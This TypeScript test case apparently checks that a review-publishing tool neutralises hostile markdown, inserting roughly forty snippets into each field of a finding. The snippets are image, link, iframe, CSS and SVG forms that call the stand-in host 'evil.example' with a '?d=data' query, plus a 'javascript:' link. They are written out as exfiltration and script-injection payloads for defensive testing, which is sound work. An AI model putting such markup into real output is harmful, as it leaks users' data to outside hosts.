import { type HostileCase, judge } from '../case.ts';
import { actsInAll } from '../kit/acts.ts';
import { listTitles, markdownOf, publish } from '../kit/publish.ts';

const EVIL = 'https://evil.example/i.png?d=data';

/** Everything that makes a browser or GitHub's image proxy ask a foreign host, or a reader follow a link. */
const SNIPPETS: readonly string[] = [
  `![x](${EVIL})`,
  `![x](<${EVIL}>)`,
  `![x](${EVIL} "title")`,
  `![][a]\n\n[a]: ${EVIL}`,
  `![a]\n\n[a]: ${EVIL}`,
  `<img src="${EVIL}">`,
  `<img src=${EVIL} width=1>`,
  `<IMG SRC='${EVIL}'/>`,
  `<picture><source srcset="${EVIL}"><img src="${EVIL}"></picture>`,
  `<video src="${EVIL}"></video>`,
  `<a href="${EVIL}">here</a>`,
  `<div style="background:url(${EVIL})">x</div>`,
  `<details open><summary>x</summary><img src="${EVIL}"></details>`,
  `[click](${EVIL})`,
  `[click](javascript:alert(1))`,
  `[click][b]\n\n[b]: ${EVIL}`,
  `<${EVIL}>`,
  `see ${EVIL} for more`,
  `see www.evil.example/path`,
  `**bold ![x](${EVIL}) bold**`,
  `> ![x](${EVIL})`,
  `- ![x](${EVIL})`,
  `| a |\n| - |\n| ![x](${EVIL}) |`,
  `# ![x](${EVIL})`,
  `\\\\![x](${EVIL})`,
  `[![x](${EVIL})](${EVIL})`,
  `![x\n](${EVIL})`,
  `![x](\n${EVIL}\n)`,
  `\`\`\`\n\`\`\`\n![x](${EVIL})`,
  `\`\`\`\n![x](${EVIL})`,
  `\`unclosed ![x](${EVIL})`,
  `[^1]\n\n[^1]: ${EVIL}`,
  `<!-- --> <img src="${EVIL}"> <!-- -->`,
  `&lt;img&gt; <img src="${EVIL}">`,
  `<svg><image href="${EVIL}"/></svg>`,
  `<iframe src="${EVIL}"></iframe>`,
  `<base href="${EVIL}">`,
  `<link rel=stylesheet href="${EVIL}">`,
  `x<br><img src="${EVIL}">`,
  `mail <mailto:a@evil.example>`,
  `![x](//evil.example/i.png)`,
];

/** Where it must be harmless, and where it must have stood for that to mean anything. */
const PLACES = ['summary', 'check 0: summary', 'check 0: text', 'review 0', 'comment 0'] as const;

export const hostile: HostileCase = {
  number: 104,
  title: 'Images and links to a foreign host, in each field of a finding',
  area: 'output',
  lanes: ['unprivileged'],
  async attack(place, defence) {
    const seen = new Map<string, string>();
    const note = (name: string, text: string | undefined) => {
      if (text === undefined) throw new Error(`There is no ${name}.`);
      const acts = actsInAll({ [name]: text });
      if (acts !== null) seen.set(name, acts);
    };
    const got = await Promise.all(
      SNIPPETS.map(async (snippet, at) => {
        const told = {
          findings: [{ title: snippet, message: snippet, remedy: snippet, suggestion: snippet }],
        };
        const published = await publish(place, { ...told, summary: snippet }, defence);
        const texts = markdownOf(published);
        for (const name of PLACES) note(name, texts[name]);
        return [`${at} ${snippet.slice(0, 30)}`, actsInAll(texts)] as const;
      }),
    );
    const places = Object.fromEntries(PLACES.map((name) => [name, seen.get(name) ?? null]));
    const listed = actsInAll(await listTitles(place, SNIPPETS, defence));
    return judge(defence, { ...Object.fromEntries(got), ...places, 'the list of a review': listed });
  },
  seconds: 120,
};
